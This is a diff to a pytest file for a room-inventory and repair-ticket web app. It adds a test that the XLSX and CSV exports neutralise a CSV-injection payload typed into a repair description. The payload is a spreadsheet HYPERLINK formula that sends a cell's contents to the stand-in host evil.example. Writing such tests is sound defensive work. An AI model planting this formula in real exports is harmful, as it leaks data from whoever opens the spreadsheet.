@@ -1,10 +1,12 @@
 """A room's inventory: items, their condition, and every change of it kept; repair tickets."""
+import csv
 import io
 import os
 import re
 
 import pytest
 import sqlalchemy as sa
+from openpyxl import load_workbook
 from PIL import Image
 from sqlalchemy.exc import IntegrityError
 from werkzeug.datastructures import FileStorage
@@ -295,3 +297,18 @@ def test_a_huge_item_id_in_a_form_names_no_item_rather_than_failing(client, logi
     assert page.status_code == 200 and "Saved." in page.get_data(as_text=True)
     assert db.session.scalar(sa.select(RepairTicket.item_id)) is None
     assert client.get(f"/rooms?building={2**40}").status_code in (200, 403)
+
+
+@pytest.mark.backends("sqlite", "postgresql")
+def test_a_formula_in_a_repair_description_is_inert_in_both_exports(client, login, rooms):
+    """OWASP's CSV injection: the staff's spreadsheet must not run what a student typed."""
+    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"details")'
+    repairs.report(rooms["room_101"], formula, actor=rooms["zhang"])
+    db.session.commit()
+    login(rooms["staff"])
+    sheet = load_workbook(io.BytesIO(client.get("/repairs?format=xlsx").data)).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if "HYPERLINK" in str(cell.value)]
+    assert [(cell.value, cell.data_type) for cell in cells] == [("'" + formula, "s")]
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+    csv_rows = list(csv.reader(io.StringIO(client.get("/repairs?format=csv").data.decode("utf-8-sig"))))
+    assert [cell for row in csv_rows for cell in row if "HYPERLINK" in cell] == ["'" + formula]
